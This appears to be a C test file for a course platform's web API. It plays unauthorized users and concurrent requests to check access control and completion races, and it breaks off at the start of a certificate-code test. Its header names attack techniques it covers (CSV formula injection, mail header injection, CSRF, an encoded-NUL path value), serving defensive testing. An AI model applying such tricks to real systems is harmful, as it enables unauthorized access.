/*
 * courses_attack2_test.c -- the second attack round on the self-paced
 * course (issue 18): what came after the first round (courses_attack_test.c,
 * not repeated here): the shared tasks and each cohort's discussion, the
 * tutors' table, its CSV and messages, deleting a cohort, ending an
 * enrolment and leaving, completion and certificates, their PDF and the
 * completion rates.  Each test plays someone who should not get what they
 * try: a visitor, a member not enrolled, a focal point, an organization's
 * admin, a participant of another cohort of the same course, one who left,
 * one of a cohort that ended, a tutor no longer staff; and tricks: marking
 * as a participant, editing an answer once marked, replies to replies and
 * to another cohort's posts, two marks completing the course at once, two
 * deletes of a cohort at once, certificate codes of every odd shape, the
 * lookup limit used against others, hostile names in the PDF, formulas in
 * the CSV, header injection in a message's subject, CSRF, method confusion
 * and oversized input.  A test that passes shows the defence holds.
 *
 * What was chosen (and is tested here): a tutor counts while staff (as the
 * first round chose for the course): one made a member again neither reads
 * nor marks the cohort's discussion; a completion needs the enrolment, so
 * an answer of someone who left, marked complete after, completes nothing;
 * a deleted account's certificates are forgotten with it (their codes
 * answer 404, their name is no longer kept; the completion stays counted
 * in the rates); a disabled or deleted account is mailed nothing, not the
 * end of its enrolment, not its certificate.  Held as they were: an
 * encoded NUL ends a path's text (every route's), so "code%00" is that
 * code's certificate; the API's JSON needs no CSRF token (a cross-site
 * form cannot send JSON without a preflight), what a form can send is
 * refused.
 *
 * The database is $WHATSON_TEST_DB (tests/http/run.t runs this program
 * once on SQLite and once on PostgreSQL).
 */
#include <pthread.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "lib/courses.h"
#include "lib/people.h"
#include "lib/sqldirect.h"
#include "lib/testsrv.h"

#define PW "plum tree orbit sixty"
#define DAY 86400

enum who { STAFF_, TUTOR_, TUTOR2_, ADA_, BO_, CY_, DEE_, FAY_, GUS_, HAL_, OLA_, FE_, UNA_,
	WHO__MAX };
static const char *const emails[] = { "sam.staff@attack-d.test", "tia.tutor@attack-d.test",
	"tom.tutor@attack-d.test", "ada@rillet-x.example", "bo@rillet-x.example",
	"cy@rillet-x.example", "dee@rillet-x.example", "fay@rillet-x.example",
	"gus@rillet-x.example", "hal@rillet-x.example", "ola@rillet-x.example",
	"fe@interior-y.go.ke", "una@rillet-x.example" };
static const char *const names[] = { "Sam Staff", "Tia Tutor", "Tom Tutor", "Ada Arden",
	"Bo Brook", "Cy Cole", "Dee Dale", "Fay Fenn", "Gus Gale", "Hal Hart", "Ola Oak",
	"Fe Focal", "Una Unconfirmed" };
static const char *const roles[] = { "staff", "staff", "staff", "member", "member", "member",
	"member", "member", "member", "member", "member", "focal", "member" };
_Static_assert(sizeof emails / sizeof emails[0] == WHO__MAX, "an address each");
_Static_assert(sizeof names / sizeof names[0] == WHO__MAX, "a name each");
_Static_assert(sizeof roles / sizeof roles[0] == WHO__MAX, "a role each");

static struct ts_sink sink;
static struct ts_server srv;
static const char *db_url;
static struct ts_browser *plain;
static char tok[WHO__MAX][129];
static int64_t uid[WHO__MAX];
static int64_t rillet, course, m1, m2, t1, t2;
static int64_t ka, kb, kended;	/* running A (Tia), running B (Tom), ended */
static int64_t ada_t1;		/* Ada's answer to the first task */

/* ---- helpers ------------------------------------------------------------ */

/* /api/v1/courses/C/cohorts/K/ and the rest. */
static const char *
K(int64_t kid, const char *rest)
{
	return tc_path("/api/v1/courses/%lld/cohorts/%lld/%s", (long long)course, (long long)kid,
	    rest);
}

/* The page's address: /courses/C/cohorts/K/ and the rest. */
static const char *
KP(int64_t kid, const char *rest)
{
	return tc_path("/courses/%lld/cohorts/%lld/%s", (long long)course, (long long)kid, rest);
}

static const struct ts_res *
answer(enum who w, int64_t kid, int64_t tid, const char *body)
{
	return tc_api("POST", K(kid, tc_path("tasks/%lld/answer", (long long)tid)), tok[w],
	    json_pack("{s:s}", "body", body));
}

static const struct ts_res *
reply(enum who w, int64_t kid, int64_t pid, const char *body)
{
	return tc_api("POST", K(kid, tc_path("posts/%lld/replies", (long long)pid)), tok[w],
	    json_pack("{s:s}", "body", body));
}

static const struct ts_res *
mark(enum who w, int64_t kid, int64_t pid, const char *decision, const char *comment)
{
	return tc_api("POST", K(kid, tc_path("posts/%lld/mark", (long long)pid)), tok[w],
	    json_pack("{s:s,s:s}", "decision", decision, "comment", comment));
}

static int64_t
count_sql(const char *fmt, long long a)
{
	char q[512];

	snprintf(q, sizeof q, fmt, a);
	return ts_sql_int("%s", q);
}

/* Mails in the outbox to w whose subject has part. */
static int64_t
outbox(enum who w, const char *part)
{
	return ts_sql_int("SELECT count(*) FROM outbox WHERE to_addr = '%s' AND subject LIKE "
	    "'%%%s%%'", emails[w], part);
}

/* A certificate code of person w of the course ("" when none), in buf. */
static const char *
code_of(enum who w, char *buf, size_t len)
{
	json_t *j = ts_jbody(tc_api("GET", tc_path("/api/v1/staff/courses/%lld/completion",
	    (long long)course), tok[STAFF_], NULL));
	json_t *x;
	size_t i;

	*buf = '\0';
	json_array_foreach(json_object_get(j, "completions"), i, x)
		if (strcmp(json_string_value(json_object_get(x, "name")), names[w]) == 0)
			snprintf(buf, len, "%s", json_string_value(json_object_get(x, "code")));
	json_decref(j);
	return buf;
}

/* Everyone's token anew (they lapse as the clock moves); Una's address is
 * unconfirmed since she signed in, so she signs in no more and keeps hers. */
static void
tokens(void)
{
	int i;

	for (i = 0; i < WHO__MAX; i++)
		if (i != UNA_)
			assert_int_equal(ts_token(plain, emails[i], PW, tok[i], sizeof tok[i]), 0);
}

/* ---- who reads ------------------------------------------------------------- */

/* A visitor: 401 on every twin, the sign-in form for the pages; no answer's
 * text anywhere; the staff pages too. */
static void
test_visitor(void **state)
{
	const struct ts_res *r;

	(void)state;
	r = tc_api("GET", K(ka, "discussion"), NULL, NULL);
	STATUS(r, 401);
	LACKS(r, "ADA-ANSWER-ONE");
	STATUS(tc_api("GET", K(ka, tc_path("tasks/%lld", (long long)t1)), NULL, NULL), 401);
	STATUS(tc_api("POST", K(ka, tc_path("tasks/%lld/answer", (long long)t1)), NULL,
	    json_pack("{s:s}", "body", "x")), 401);
	STATUS(tc_api("POST", K(ka, tc_path("posts/%lld/replies", (long long)ada_t1)), NULL,
	    json_pack("{s:s}", "body", "x")), 401);
	STATUS(tc_api("POST", K(ka, tc_path("posts/%lld/mark", (long long)ada_t1)), NULL,
	    json_pack("{s:s}", "decision", "complete")), 401);
	r = ts_get(plain, KP(ka, "discussion"));
	STATUS(r, 303);
	LACKS(r, "ADA-ANSWER-ONE");
	STATUS(ts_get(plain, tc_path("/staff/courses/%lld/cohorts/%lld/table", (long long)course,
	    (long long)ka)), 303);
	r = ts_get(plain, tc_path("/staff/courses/%lld/cohorts/%lld/table.csv", (long long)course,
	    (long long)ka));
	assert_true(r->status == 303 || r->status == 401);
	LACKS(r, emails[ADA_]);
	STATUS(tc_api("GET", tc_path("/api/v1/staff/courses/%lld/cohorts/%lld/table",
	    (long long)course, (long long)ka), NULL, NULL), 401);
	STATUS(tc_api("POST", tc_path("/api/v1/cohorts/%lld/messages", (long long)ka), NULL,
	    json_pack( "{s:s,s:s,s:s}", "subject", "s", "body", "b", "filter", "all")), 401);
	STATUS(tc_api("GET", tc_path("/api/v1/staff/courses/%lld/completion", (long long)course),
	    NULL, NULL), 401);
	r = ts_get(plain, tc_path("/staff/courses/%lld/completion.csv", (long long)course));
	assert_true(r->status == 303 || r->status == 401);
	STATUS(tc_api("DELETE", tc_path("/api/v1/cohorts/%lld?confirm=1", (long long)ka), NULL,
	    NULL), 401);
	STATUS(tc_api("DELETE", tc_path("/api/v1/cohorts/%lld/enrolments/%lld", (long long)ka,
	    (long long)uid[ADA_]), NULL, NULL), 401);
	assert_int_equal(count_sql("SELECT count(*) FROM course_enrolments WHERE cohort_id = %lld",
	    (long long)ka) > 0, 1);
}

/* A member enrolled nowhere, a focal point, an organization's admin (of
 * the participants' organization), a member whose address is not
 * confirmed: the discussion is not theirs (403, the
 * text nowhere), nor the tutors' side, the rates, a cohort's deletion or
 * someone's enrolment. */
static void
test_outsiders(void **state)
{
	static const enum who who[] = { CY_, FE_, OLA_, UNA_ };
	const struct ts_res *r;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof who / sizeof who[0]; i++) {
		const char *t = tok[who[i]];

		r = tc_api("GET", K(ka, "discussion"), t, NULL);
		STATUS(r, 403);
		LACKS(r, "ADA-ANSWER-ONE");
		r = tc_api("GET", K(ka, tc_path("tasks/%lld", (long long)t1)), t, NULL);
		STATUS(r, 403);
		LACKS(r, "ADA-ANSWER-ONE");
		STATUS(answer(who[i], ka, t1, "Mine too"), 403);
		STATUS(reply(who[i], ka, ada_t1, "Nice"), 403);
		STATUS(mark(who[i], ka, ada_t1, "returned", "No"), 403);
		r = tc_api("GET", tc_path("/api/v1/staff/courses/%lld/cohorts/%lld/table",
		    (long long)course, (long long)ka), t, NULL);
		STATUS(r, 403);
		LACKS(r, emails[ADA_]);
		STATUS(tc_api("POST", tc_path("/api/v1/cohorts/%lld/messages", (long long)ka), t,
		    json_pack( "{s:s,s:s,s:s}", "subject", "Hi", "body", "Hello", "filter", "all")),
		    403);
		r = tc_api("GET", tc_path("/api/v1/staff/courses/%lld/completion",
		    (long long)course), t, NULL);
		STATUS(r, 403);
		STATUS(tc_api("DELETE", tc_path("/api/v1/cohorts/%lld?confirm=1", (long long)ka), t,
		    NULL), 403);
		STATUS(tc_api("DELETE", tc_path("/api/v1/cohorts/%lld/enrolments/%lld",
		    (long long)ka, (long long)uid[ADA_]), t, NULL), 403);
	}
	/* the pages, signed in as the organization's admin */
	{
		struct ts_browser *ola = ts_signed_in(&srv, NULL, emails[OLA_], PW);

		assert_non_null(ola);
		r = ts_get(ola, KP(ka, "discussion"));
		STATUS(r, 403);
		LACKS(r, "ADA-ANSWER-ONE");
		r = ts_get(ola, tc_path("/staff/courses/%lld/cohorts/%lld/table.csv",
		    (long long)course, (long long)ka));
		STATUS(r, 403);
		LACKS(r, emails[ADA_]);
		STATUS(ts_get(ola, tc_path("/staff/courses/%lld/completion.csv",
		    (long long)course)), 403);
		STATUS(ts_get(ola, tc_path("/staff/courses/%lld/completion", (long long)course)),
		    403);
		ts_browser_free(ola);
	}
	assert_int_equal(count_sql("SELECT count(*) FROM course_posts WHERE user_id = %lld",
	    (long long)uid[CY_]), 0);
	assert_int_equal(count_sql("SELECT count(*) FROM course_enrolments WHERE user_id = %lld",
	    (long long)uid[ADA_]), 1);
}

/* A participant of the other cohort of the same course: another
 * discussion; the posts of cohort A are not found through B's address,
 * and are forbidden through A's; counts and pages are B's own. */
static void
test_other_cohort(void **state)
{
	const struct ts_res *r;
	json_t *j;

	(void)state;
	r = tc_api("GET", K(ka, "discussion"), tok[BO_], NULL);
	STATUS(r, 403);
	LACKS(r, "ADA-ANSWER-ONE");
	/* Ada's answer through B's address: not there */
	STATUS(reply(BO_, kb, ada_t1, "Through B"), 404);
	STATUS(reply(BO_, ka, ada_t1, "Through A"), 403);
	STATUS(mark(BO_, kb, ada_t1, "complete", ""), 404);
	/* Tom tutors B, is staff: staff mark in every cohort, but A's post is
	 * A's, not B's */
	STATUS(mark(TUTOR2_, kb, ada_t1, "complete", ""), 404);
	STATUS(tc_api("POST", K(kb, tc_path("posts/%lld/replies", (long long)ada_t1)), tok[TUTOR2_],
	    json_pack("{s:s}", "body", "Wrong cohort")), 404);
	/* a task of the course through the wrong course's address: 404 */
	r = tc_api("GET", tc_path("/api/v1/courses/%lld/cohorts/%lld/discussion",
	    (long long)course + 999, (long long)kb), tok[BO_], NULL);
	STATUS(r, 404);
	r = tc_api("GET", K(kb, "discussion?per_page=100"), tok[BO_], NULL);
	STATUS(r, 200);
	LACKS(r, "ADA-ANSWER-ONE");
	j = ts_jbody(r);
	assert_int_equal(tc_num(j, "total"), 1);	/* Bo's own */
	json_decref(j);
	/* a page far out: empty, nothing of A */
	r = tc_api("GET", K(kb, "discussion?page=99999"), tok[BO_], NULL);
	assert_true(r->status == 200 || r->status == 422);
	LACKS(r, "ADA-ANSWER-ONE");
	/* Bo ends nobody's enrolment but his own; in A he has none */
	STATUS(tc_api("DELETE", tc_path("/api/v1/cohorts/%lld/enrolments/%lld", (long long)ka,
	    (long long)uid[ADA_]), tok[BO_], NULL), 403);
	STATUS(tc_api("DELETE", tc_path("/api/v1/cohorts/%lld/enrolments/%lld", (long long)ka,
	    (long long)uid[BO_]), tok[BO_], NULL), 404);
	/* nor through the leave form of A */
	{
		struct ts_browser *bo = ts_signed_in(&srv, NULL, emails[BO_], PW);

		assert_non_null(bo);
		r = ts_get(bo, tc_path("/courses/%lld", (long long)course));
		STATUS(r, 200);
		r = ts_form(bo, KP(ka, "leave"), NULL);
		STATUS(r, 404);
		r = ts_get(bo, KP(ka, tc_path("tasks/%lld", (long long)t1)));
		STATUS(r, 403);
		LACKS(r, "ADA-ANSWER-ONE");
		ts_browser_free(bo);
	}
	assert_int_equal(count_sql("SELECT count(*) FROM course_posts WHERE user_id = %lld",
	    (long long)uid[BO_]), 1);
}

/* A participant does not mark, even their own answer; a marked answer is
 * not edited after, by the API or the form; a reply to a reply joins its
 * answer, and a reply is not marked. */
static void
test_marks_and_replies(void **state)
{
	const struct ts_res *r;
	struct ts_browser *ada;
	int64_t gus_reply;
	json_t *j;

	(void)state;
	r = mark(ADA_, ka, ada_t1, "complete", "I say so");
	STATUS(r, 403);
	r = mark(GUS_, ka, ada_t1, "returned", "Redo it");
	STATUS(r, 403);
	assert_int_equal(count_sql("SELECT count(*) FROM course_posts WHERE id = %lld AND "
	    "status = 'submitted'", (long long)ada_t1), 1);
	/* a reply to a reply is a reply to its answer */
	r = reply(GUS_, ka, ada_t1, "GUS-REPLY");
	STATUS(r, 201);
	gus_reply = tc_id_of(r);
	r = reply(ADA_, ka, gus_reply, "ADA-REPLY-TO-REPLY");
	STATUS(r, 201);
	j = ts_jbody(r);
	assert_int_equal(tc_num(j, "parent_id"), ada_t1);
	json_decref(j);
	STATUS(mark(TUTOR_, ka, gus_reply, "complete", ""), 404);
	/* marked complete: Ada edits no more */
	STATUS(mark(TUTOR_, ka, ada_t1, "complete", "Well done"), 200);
	r = answer(ADA_, ka, t1, "ADA-EDITED-AFTER");
	STATUS(r, 409);
	ada = ts_signed_in(&srv, NULL, emails[ADA_], PW);
	assert_non_null(ada);
	r = ts_get(ada, KP(ka, tc_path("tasks/%lld", (long long)t1)));
	STATUS(r, 200);
	r = ts_form(ada, KP(ka, tc_path("tasks/%lld/answer", (long long)t1)), "body",
	    "ADA-EDITED-BY-FORM", NULL);
	STATUS(r, 409);
	/* nor marks her own answer through the form */
	r = ts_form(ada, KP(ka, tc_path("posts/%lld/mark", (long long)ada_t1)), "decision",
	    "returned", "comment", "Undo", NULL);
	STATUS(r, 403);
	ts_browser_free(ada);
	assert_int_equal(count_sql("SELECT count(*) FROM course_posts WHERE body LIKE "
	    "'ADA-EDITED%%' AND id = %lld", (long long)ada_t1), 0);
	assert_int_equal(count_sql("SELECT count(*) FROM course_posts WHERE id = %lld AND "
	    "status = 'complete'", (long long)ada_t1), 1);
}

/* A tutor made a member again: the discussion of the cohort they tutored
 * is no longer theirs to read or mark. */
static void
test_former_tutor(void **state)
{
	const struct ts_res *r;
	int64_t bo_t1;

	(void)state;
	r = tc_api("GET", K(kb, "discussion"), tok[TUTOR2_], NULL);
	STATUS(r, 200);
	HAS(r, "BO-ANSWER-ONE");
	bo_t1 = count_sql("SELECT id FROM course_posts WHERE user_id = %lld AND parent_id IS NULL",
	    (long long)uid[BO_]);
	ts_sql_int("UPDATE users SET role = 'member' WHERE id = %lld", (long long)uid[TUTOR2_]);
	r = tc_api("GET", K(kb, "discussion"), tok[TUTOR2_], NULL);
	STATUS(r, 403);
	LACKS(r, "BO-ANSWER-ONE");
	r = tc_api("GET", K(kb, tc_path("tasks/%lld", (long long)t1)), tok[TUTOR2_], NULL);
	STATUS(r, 403);
	LACKS(r, "BO-ANSWER-ONE");
	STATUS(mark(TUTOR2_, kb, bo_t1, "returned", "Former tutor"), 403);
	STATUS(reply(TUTOR2_, kb, bo_t1, "Former tutor's reply"), 403);
	r = tc_api("GET", tc_path("/api/v1/staff/courses/%lld/cohorts/%lld/table",
	    (long long)course, (long long)kb), tok[TUTOR2_], NULL);
	STATUS(r, 403);
	LACKS(r, emails[BO_]);
	STATUS(tc_api("POST", tc_path("/api/v1/cohorts/%lld/messages", (long long)kb), tok[TUTOR2_],
	    json_pack("{s:s,s:s,s:s}", "subject", "Still here", "body", "x", "filter", "all")),
	    403);
	ts_sql_int("UPDATE users SET role = 'staff' WHERE id = %lld", (long long)uid[TUTOR2_]);
	assert_int_equal(count_sql("SELECT count(*) FROM course_posts WHERE id = %lld AND "
	    "status = 'submitted'", (long long)bo_t1), 1);
	assert_int_equal(count_sql("SELECT count(*) FROM course_posts WHERE user_id = %lld",
	    (long long)uid[TUTOR2_]), 0);
}

/* A course put back to draft: its cohort's discussion is no
 * participant's (404, as the course), only staff's. */
static void
test_draft(void **state)
{
	const struct ts_res *r;

	(void)state;
	STATUS(tc_api("PATCH", tc_path("/api/v1/courses/%lld", (long long)course), tok[STAFF_],
	    json_pack("{s:s}", "status", "draft")), 200);
	r = tc_api("GET", K(ka, "discussion"), tok[ADA_], NULL);
	STATUS(r, 404);
	LACKS(r, "ADA-ANSWER-ONE");
	STATUS(answer(ADA_, ka, t2, "ADA-IN-DRAFT"), 404);
	STATUS(reply(ADA_, ka, ada_t1, "ADA-IN-DRAFT"), 404);
	STATUS(tc_api("GET", K(ka, "discussion"), tok[STAFF_], NULL), 200);
	STATUS(tc_api("PATCH", tc_path("/api/v1/courses/%lld", (long long)course), tok[STAFF_],
	    json_pack("{s:s}", "status", "published")), 200);
	assert_int_equal(count_sql("SELECT count(*) FROM course_posts WHERE body = 'ADA-IN-DRAFT'"
	    " OR %lld = 0", 1), 0);
}

/* A participant of a cohort that ended: answers no more. */
static void
test_ended(void **state)
{
	const struct ts_res *r;

	(void)state;
	r = answer(DEE_, kended, t1, "DEE-LATE");
	STATUS(r, 403);
	HAS(r, "not running");
	r = tc_api("GET", K(kended, "discussion"), tok[DEE_], NULL);
	STATUS(r, 200);
	HAS(r, "\"running\":false");
	assert_int_equal(count_sql("SELECT count(*) FROM course_posts WHERE user_id = %lld",
	    (long long)uid[DEE_]), 0);
}

/* Gus leaves (the course page's form): the discussion is no longer his;
 * his answers, marked complete after, complete nothing. */
static void
test_left(void **state)
{
	struct ts_browser *gus;
	const struct ts_res *r;
	int64_t g1, g2;

	(void)state;
	r = answer(GUS_, ka, t1, "GUS-ANSWER-ONE");
	STATUS(r, 201);
	g1 = tc_id_of(r);
	r = answer(GUS_, ka, t2, "GUS-ANSWER-TWO");
	STATUS(r, 201);
	g2 = tc_id_of(r);
	gus = ts_signed_in(&srv, NULL, emails[GUS_], PW);
	assert_non_null(gus);
	STATUS(ts_get(gus, tc_path("/courses/%lld", (long long)course)), 200);
	STATUS(ts_form(gus, KP(ka, "leave"), NULL), 303);
	/* twice: he is no longer enrolled */
	STATUS(ts_form(gus, KP(ka, "leave"), NULL), 404);
	ts_browser_free(gus);
	r = tc_api("GET", K(ka, "discussion"), tok[GUS_], NULL);
	STATUS(r, 403);
	LACKS(r, "ADA-ANSWER-ONE");
	STATUS(answer(GUS_, ka, t1, "GUS-AFTER"), 403);
	STATUS(reply(GUS_, ka, ada_t1, "GUS-AFTER"), 403);
	/* his answers, marked after he left: no completion, no certificate */
	STATUS(mark(TUTOR_, ka, g1, "complete", ""), 200);
	STATUS(mark(STAFF_, ka, g2, "complete", ""), 200);
	assert_int_equal(count_sql("SELECT count(*) FROM course_completions WHERE user_id = %lld",
	    (long long)uid[GUS_]), 0);
	assert_int_equal(outbox(GUS_, "completed the course"), 0);
	/* nor is he mailed marks of, or replies to, what he wrote there */
	STATUS(reply(TUTOR_, ka, g1, "TUTOR-AFTER"), 201);
	assert_int_equal(outbox(GUS_, "is marked complete"), 0);
	assert_int_equal(outbox(GUS_, "reply to your answer"), 0);
}

/* The last two answers marked complete at the same instant (by the tutor
 * and by staff): one completion, one certificate, one mail. */
struct racer {
	struct ts_browser *b;
	const char *token, *path, *body, *method;
	long status;
};

static void *
race(void *arg)
{
	struct racer *x = arg;

	x->status = ts_api(x->b, x->method, x->path, x->token, x->body)->status;
	return NULL;
}

static void
run_race(struct racer *x, int n)
{
	pthread_t t[8];
	int i;

	for (i = 0; i < n; i++)
		x[i].b = ts_browser_new(&srv, NULL);
	for (i = 0; i < n; i++)
		assert_int_equal(pthread_create(&t[i], NULL, race, &x[i]), 0);
	for (i = 0; i < n; i++) {
		pthread_join(t[i], NULL);
		ts_browser_free(x[i].b);
	}
}

static void
test_completion_at_once(void **state)
{
	struct racer x[4];
	char p1[160], p2[160], code[64];
	const char *mk = "{\"decision\":\"complete\",\"comment\":\"\"}";
	int64_t f1, f2;
	struct ts_mail m;
	const struct ts_res *r;
	int i;

	(void)state;
	r = answer(FAY_, ka, t1, "FAY-ANSWER-ONE");
	STATUS(r, 201);
	f1 = tc_id_of(r);
	r = answer(FAY_, ka, t2, "FAY-ANSWER-TWO");
	STATUS(r, 201);
	f2 = tc_id_of(r);
	snprintf(p1, sizeof p1, "%s", K(ka, tc_path("posts/%lld/mark", (long long)f1)));
	snprintf(p2, sizeof p2, "%s", K(ka, tc_path("posts/%lld/mark", (long long)f2)));
	for (i = 0; i < 4; i++) {
		x[i].method = "POST";
		x[i].body = mk;
		x[i].token = i % 2 ? tok[TUTOR_] : tok[STAFF_];
		x[i].path = i < 2 ? p1 : p2;
	}
	run_race(x, 4);
	for (i = 0; i < 4; i++)
		assert_int_equal(x[i].status, 200);
	assert_int_equal(count_sql("SELECT count(*) FROM course_completions WHERE user_id = %lld",
	    (long long)uid[FAY_]), 1);
	/* the completion mail comes, once */
	for (i = 0; i < 12; i++) {
		if (ts_mail_wait(&sink, emails[FAY_], 20000, &m) != 0)
			break;
		if (strstr(m.subject, "completed the course")) {
			ts_mail_free(&m);
			break;
		}
		ts_mail_free(&m);
	}
	assert_true(i < 12);
	assert_int_equal(outbox(FAY_, "completed the course"), 1);
	assert_string_not_equal(code_of(FAY_, code, sizeof code), "");
	/* marked again: nothing more */
	STATUS(mark(TUTOR_, ka, f1, "complete", ""), 200);
	assert_int_equal(outbox(FAY_, "completed the course"), 1);
	assert_int_equal(count_sql("SELECT count(*) FROM course_completions WHERE user_id = %lld",
	    (long long)uid[FAY_]), 1);
}

/* A course completed by reading its two lessons, both read at the same
 * instant (twice each): one completion, one mail; the course deleted
 * after, the certificate still says what it said. */
static void
test_reading_at_once(void **state)
{
	struct racer x[6];
	char la[128], lb[128], code[64] = "";
	int64_t crs, mid, now = tc_now(), kid;
	const struct ts_res *r;
	json_t *j, *it;
	size_t n;
	int i;

	(void)state;
	r = tc_api("POST", "/api/v1/courses", tok[STAFF_], json_pack("{s:s,s:s,s:b,s:b,s:b}",
	    "title", "Reading attack course", "status", "published", "complete_lessons", 1,
	    "complete_quizzes", 0, "complete_tasks", 0));
	STATUS(r, 201);
	crs = tc_id_of(r);
	r = tc_api("POST", tc_path("/api/v1/courses/%lld/modules", (long long)crs), tok[STAFF_],
	    json_pack("{s:s}", "title", "Only module"));
	STATUS(r, 201);
	j = ts_jbody(r);
	mid = tc_num(json_array_get(json_object_get(j, "modules"), 0), "id");
	json_decref(j);
	for (i = 0; i < 2; i++) {
		r = tc_api("POST", tc_path("/api/v1/courses/%lld/modules/%lld/lessons",
		    (long long)crs, (long long)mid), tok[STAFF_], json_pack("{s:s,s:s,s:s,s:i}",
		    "title", i ? "Lesson B" : "Lesson A", "kind", "markdown", "body", "Read me.",
		    "minutes", 5));
		STATUS(r, 201);
		snprintf(i ? lb : la, sizeof la, "/api/v1/courses/%lld/lessons/%lld", (long long)crs,
		    (long long)tc_id_of(r));
	}
	r = tc_api("POST", "/api/v1/cohorts", tok[STAFF_], json_pack("{s:I,s:s,s:s,s:s,s:s}",
	    "course_id", (json_int_t)crs, "title", "Readers", "timezone", "UTC", "start",
	    tc_utc(now - DAY), "end", tc_utc(now + 30 * DAY)));
	STATUS(r, 201);
	kid = tc_id_of(r);
	tc_enrolled(kid, uid[ADA_]);
	for (i = 0; i < 6; i++) {
		x[i].method = "GET";
		x[i].path = i % 2 ? lb : la;
		x[i].token = tok[ADA_];
		x[i].body = NULL;
	}
	run_race(x, 6);
	for (i = 0; i < 6; i++)
		assert_int_equal(x[i].status, 200);
	assert_int_equal(ts_sql_int("SELECT count(*) FROM course_completions WHERE user_id = "
	    "%lld AND course_id = %lld", (long long)uid[ADA_], (long long)crs), 1);
	assert_int_equal(outbox(ADA_, "completed the course: Reading attack course"), 1);
	j = ts_jbody(tc_api("GET", tc_path("/api/v1/staff/courses/%lld/completion", (long long)crs),
	    tok[STAFF_], NULL));
	json_array_foreach(json_object_get(j, "completions"), n, it)
		snprintf(code, sizeof code, "%s", json_string_value(json_object_get(it, "code")));
	json_decref(j);
	assert_int_equal(strlen(code), 26);
	/* the course deleted (when staff may): the certificate stays as it was */
	r = tc_api("DELETE", tc_path("/api/v1/courses/%lld", (long long)crs), tok[STAFF_], NULL);
	printf("# the course deleted: %ld\n", r->status);
	assert_true(r->status == 204 || r->status == 409);
	r = tc_api("GET", tc_path("/api/v1/certificates/%s", code), NULL, NULL);
	STATUS(r, 200);
	HAS(r, "Reading attack course");
	HAS(r, names[ADA_]);
	r = ts_get(plain, tc_path("/certificates/%s.pdf", code));
	STATUS(r, 200);
}

/* A course of a quiz and a task: the quiz passed at the instant the task
 * is marked complete, each the last rule: one completion, one mail. */
static void
test_quiz_and_mark_at_once(void **state)
{
	struct racer x[2];
	char qpath[128], mpath[160], body[512];
	int64_t crs, mid, qid, now = tc_now(), kid, pid;
	const struct ts_res *r;
	json_t *j, *q, *a;
	size_t i, k;
	const char *qk = NULL, *ak = NULL;

	(void)state;
	r = tc_api("POST", "/api/v1/courses", tok[STAFF_], json_pack("{s:s,s:s,s:b,s:b,s:b}",
	    "title", "Quiz and task course", "status", "published", "complete_lessons", 0,
	    "complete_quizzes", 1, "complete_tasks", 1));
	STATUS(r, 201);
	crs = tc_id_of(r);
	r = tc_api("POST", tc_path("/api/v1/courses/%lld/modules", (long long)crs), tok[STAFF_],
	    json_pack("{s:s}", "title", "Only module"));
	STATUS(r, 201);
	j = ts_jbody(r);
	mid = tc_num(json_array_get(json_object_get(j, "modules"), 0), "id");
	json_decref(j);
	r = tc_api("POST", tc_path("/api/v1/courses/%lld/modules/%lld/quiz", (long long)crs,
	    (long long)mid), tok[STAFF_], json_pack("{s:s,s:i,s:i,s:[{s:s,s:s,s:[{s:s,s:b},"
	    "{s:s,s:b}]}]}", "title", "One question", "pass_mark", 50, "attempts_max", 3,
	    "questions", "text", "Who reviews?", "kind", "single", "answers", "text", "The COP",
	    "correct", 1, "text", "Nobody", "correct", 0));
	STATUS(r, 201);
	qid = tc_id_of(r);
	r = tc_api("POST", tc_path("/api/v1/courses/%lld/modules/%lld/task", (long long)crs,
	    (long long)mid), tok[STAFF_], json_pack("{s:s,s:i}", "title", "Say one thing",
	    "max_length", 200));
	STATUS(r, 201);
	r = tc_api("POST", "/api/v1/cohorts", tok[STAFF_], json_pack("{s:I,s:s,s:s,s:s,s:s,s:[I]}",
	    "course_id", (json_int_t)crs, "title", "Quizzers", "timezone", "UTC", "start",
	    tc_utc(now - DAY), "end", tc_utc(now + 30 * DAY), "tutors", (json_int_t)uid[TUTOR_]));
	STATUS(r, 201);
	kid = tc_id_of(r);
	tc_enrolled(kid, uid[BO_]);
	r = tc_api("POST", tc_path("/api/v1/courses/%lld/cohorts/%lld/tasks/%lld/answer",
	    (long long)crs, (long long)kid, (long long)ts_sql_int("SELECT t.id FROM course_tasks "
	    "t JOIN course_modules m ON m.id = t.module_id WHERE m.course_id = %lld",
	    (long long)crs)), tok[BO_], json_pack("{s:s}", "body", "One thing."));
	STATUS(r, 201);
	pid = tc_id_of(r);
	/* the quiz as Bo is given it: the right answer's id, by its text */
	snprintf(qpath, sizeof qpath, "/api/v1/courses/%lld/quizzes/%lld", (long long)crs,
	    (long long)qid);
	r = tc_api("GET", qpath, tok[BO_], NULL);
	STATUS(r, 200);
	j = ts_jbody(r);
	json_array_foreach(json_object_get(j, "questions"), i, q)
		json_array_foreach(json_object_get(q, "answers"), k, a)
			if (strcmp(json_string_value(json_object_get(a, "text")), "The COP") == 0) {
				qk = json_string_value(json_object_get(q, "id"));
				ak = json_string_value(json_object_get(a, "id"));
			}
	assert_non_null(qk);
	snprintf(body, sizeof body, "{\"attempt\":%lld,\"answers\":{\"%s\":\"%s\"}}",
	    (long long)tc_num(j, "attempt"), qk, ak);
	json_decref(j);
	snprintf(qpath, sizeof qpath, "/api/v1/courses/%lld/quizzes/%lld/attempts",
	    (long long)crs, (long long)qid);
	snprintf(mpath, sizeof mpath, "/api/v1/courses/%lld/cohorts/%lld/posts/%lld/mark",
	    (long long)crs, (long long)kid, (long long)pid);
	x[0] = (struct racer){ .method = "POST", .path = qpath, .token = tok[BO_], .body = body };
	x[1] = (struct racer){ .method = "POST", .path = mpath, .token = tok[TUTOR_],
	    .body = "{\"decision\":\"complete\",\"comment\":\"\"}" };
	run_race(x, 2);
	assert_int_equal(x[0].status, 201);
	assert_int_equal(x[1].status, 200);
	assert_int_equal(ts_sql_int("SELECT count(*) FROM course_completions WHERE user_id = "
	    "%lld AND course_id = %lld", (long long)uid[BO_], (long long)crs), 1);
	assert_int_equal(outbox(BO_, "completed the course: Quiz and task course"), 1);
}

/* Certificate codes of every odd shape: one 404, never another's; the
 * lookup limit slows the guesser's address, and nobody else. */
static void
test_codes(void **state)
{
